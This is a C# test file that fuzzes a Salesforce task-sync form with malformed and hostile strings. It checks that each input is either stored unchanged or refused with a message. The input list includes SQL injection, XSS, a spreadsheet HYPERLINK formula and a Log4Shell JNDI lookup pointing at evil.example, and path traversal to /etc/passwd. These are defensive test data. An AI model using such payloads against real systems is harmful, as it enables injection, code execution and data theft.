using System.Text;
using TaskSync.Sync.Model;
using TaskSync.Sync.Tasks;

namespace TaskSync.Tests.Engine.Pull;

/// <summary>Whatever is typed or sent into the task form: it is stored and arrives in Salesforce as it is, or it is refused with a word, and nothing is lost.</summary>
public sealed class MalformedInputTests
{
    private static readonly string[] Hostile =
    [
        "", " ", "\t", "\r\n", "\0", "a\0b", "\u0001\u0002\u001b[31m", "\u007f", "\ud800", "a\udc00b", "\udc00\ud800", "\ufffe\uffff", "\ufeff", "\u200b", "\u202etxt.exe", "\u2028\u2029", "e\u0301", "\u00e9",
        "👩‍👩‍👧‍👦", "🏳️‍🌈 call", "日本語のタスク", "مرحبا", "İıIi", "ß", "\u00a0 call \u00a0", "' OR Id != null --", "\\' OR Name LIKE '%", "'; DROP TABLE Tasks; --", "%_[]", "{\"Subject\":1}", "<script>alert(1)</script>",
        "<img src=x onerror=alert(1)>", "javascript:alert(1)", "=HYPERLINK(\"http://evil.example\")", "+1", "-1", "@SUM(A1)", "../../etc/passwd", "%00", "%2e%2e%2f", "{{7*7}}", "${jndi:ldap://evil.example}", "null", "undefined",
        "NaN", "1e309", "00T000000000001", "003000000000000AAA", "not an id", new('x', 255), new('x', 256), new('é', 255), string.Concat(Enumerable.Repeat("👩", 128)), new('x', 32_000), new('x', 32_001), new('\n', 40_000),
    ];

    private static readonly Dictionary<string, Func<TaskDraft, string, TaskDraft>> Fields = new()
    {
        ["Subject"] = (draft, text) => draft with { Subject = text },
        ["Details"] = (draft, text) => draft with { Details = text },
        ["Type"] = (draft, text) => draft with { Type = text },
        ["Status"] = (draft, text) => draft with { Status = text },
        ["Priority"] = (draft, text) => draft with { Priority = text },
        ["WhoId"] = (draft, text) => draft with { WhoId = text },
        ["WhatId"] = (draft, text) => draft with { WhatId = text },
    };

    private static CancellationToken Token => TestContext.Current.CancellationToken;

    [Fact]
    public async Task Over_a_thousand_malformed_inputs_arrive_as_they_are_or_are_refused_with_a_word()
    {
        var random = new Random(17);
        await using var world = SyncWorld.StartInProcess();
        var rep = await world.SyncedRepAsync();
        string[] texts = [.. Hostile, .. Enumerable.Range(0, 30).Select(_ => Hostile[random.Next(50)] + Hostile[random.Next(50)])];
        var (tries, refused) = (0, 0);
        foreach (var (field, put) in Fields)
        {
            foreach (var text in texts)
            {
                // Into a new task, and into one that is good.
                var good = new TaskDraft { Subject = $"{field} {tries}", Priority = "Normal", Status = "Not Started" };
                refused += Judge(await world.Tasks.CreateAsync(rep.Id, put(good, text), Token), text);
                var id = ((TaskResult.Saved)await world.Tasks.CreateAsync(rep.Id, good, Token)).Id;
                refused += Judge(await world.Tasks.EditAsync(rep.Id, id, good, put(good, text), Token), text);
                tries += 2;
            }
        }

        Assert.InRange(tries, 1000, 5000);
        Assert.InRange(refused, tries / 4, tries * 3 / 4);
        for (var i = 0; i < 4; i++)
        {
            await rep.SyncAsync();
        }

        // What only Salesforce can judge, a person who is not there for one, it refuses in its own words; all others are equal on both sides.
        var problems = await rep.ProblemsAsync();
        Assert.All(problems, problem => Assert.NotEmpty(problem.Message));
        var waiting = problems.Select(p => p.TaskId).ToHashSet();
        Assert.Equal(waiting.Count, await rep.WaitingAsync());
        var there = rep.Remote().ToDictionary(t => t.Id);
        Assert.All((await rep.ListAsync()).Where(t => !waiting.Contains(t.Id)), task =>
        {
            var row = there[task.Link!.SalesforceId!];
            Assert.Equal((row.Subject, row.Description, row.Status, row.Priority, row.WhoId, row.WhatId), (task.Subject, task.Details, task.Status, task.Priority, task.WhoId, task.WhatId));
        });
        TestContext.Current.TestOutputHelper?.WriteLine($"{tries} inputs, {refused} refused by the form, {waiting.Count} by Salesforce");
    }

    private static int Judge(TaskResult result, string text)
    {
        if (result is TaskResult.Saved)
        {
            return 0;
        }

        Assert.NotEmpty(Assert.IsType<TaskResult.Invalid>(result).Errors);
        Assert.All(((TaskResult.Invalid)result).Errors, error => Assert.False(string.IsNullOrWhiteSpace(error.Message), Convert.ToHexString(Encoding.UTF8.GetBytes(text))));
        return 1;
    }
}
